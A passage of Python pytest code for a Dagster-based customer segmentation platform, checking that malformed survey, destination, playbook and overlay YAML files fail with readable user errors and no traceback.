    path = tmp_path / "surveys.yaml"
    path.write_text("surveys:\n  - {id: a, question: q, when: 'ordrs_90d >= 2'}\n")
    with pytest.raises(ActivationConfigError, match=r"surveys\[0\].when: unknown column"):
        check_survey_columns(load_surveys(path), ["orders_90d"], path)


def test_default_activation_files_load():
    from seg_platform.activation.config import load_destinations, load_surveys

    assert {d.name for d in load_destinations()} == set(DESTINATIONS)
    assert {s.id for s in load_surveys()} == {
        "setup_blocker", "pricing_hesitation", "churn_reason", "nps",
    }  # fmt: skip


BAD_CONFIG_FILES = {
    # asset key: (resource, field, file text, partition, start of the step's error text)
    "activation/activation_feeds": (
        "activation", "destinations",
        "destinations:\n  d:\n    consent_channel: fax\n    identifiers: [email]\n", DECEMBER,
        "destinations.d.consent_channel: Input should be 'email', 'sms', 'ads', 'in_app' or "
        "'crm', not 'fax'",
    ),
    "privacy/erasure": (
        "activation", "destinations",
        "destinations:\n  d:\n    consent_channel: fax\n    identifiers: [email]\n", None,
        "destinations.d.consent_channel: Input should be",
    ),
    "segments/segment_assignments": (
        "segments", "playbook", "actions:\n  default:\n    type: shout\n", DECEMBER,
        "actions.default",
    ),
    "predictions/customer_overlays": (
        "predictions", "overlays", "families: [1, 2]\n", "2025-12-31", "families",
    ),
}  # fmt: skip


@pytest.mark.parametrize("asset", BAD_CONFIG_FILES)
def test_a_bad_configuration_file_fails_the_step_as_a_user_error(home, tmp_path, asset):
    """The step fails with Dagster's `Failure` (no retry) whose text is the file's error
    lines, so the UI and the CLI summary show the mistake, not a traceback; nothing is read or
    deleted before the file is checked."""
    resource, field, text, partition, expected = BAD_CONFIG_FILES[asset]
    bad = tmp_path / "bad.yaml"
    bad.write_text(text)
    configured = type(defs.resources[resource])(**{field: str(bad)})
    resources = {**defs.resources, resource: configured}
    assets = [a for a in defs.assets if any(k.to_user_string() == asset for k in a.keys)]
    result = dg.materialize(
        assets, partition_key=partition, resources=resources,
        selection=[k for a in assets for k in a.keys], raise_on_error=False,
    )  # fmt: skip
    assert not result.success
    (failure,) = [e for e in result.all_events if e.event_type_value == "STEP_FAILURE"]
    assert failure.step_failure_data.error.cls_name == "Failure"
    description = failure.step_failure_data.user_failure_data.description
    assert description.startswith(f"{bad}: {expected}"), description
    assert "Traceback" not in description
